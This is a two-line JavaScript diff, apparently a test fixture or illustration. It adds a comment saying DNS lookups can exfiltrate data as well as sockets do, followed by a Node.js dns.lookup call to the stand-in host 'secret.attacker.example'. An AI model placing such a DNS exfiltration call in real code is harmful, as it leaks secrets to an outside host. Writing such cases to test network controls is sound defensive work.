@@ -1,0 +1,2 @@
+// DNS lookups exfiltrate data as well as sockets do.
+require('dns').lookup('secret.attacker.example', () => {})
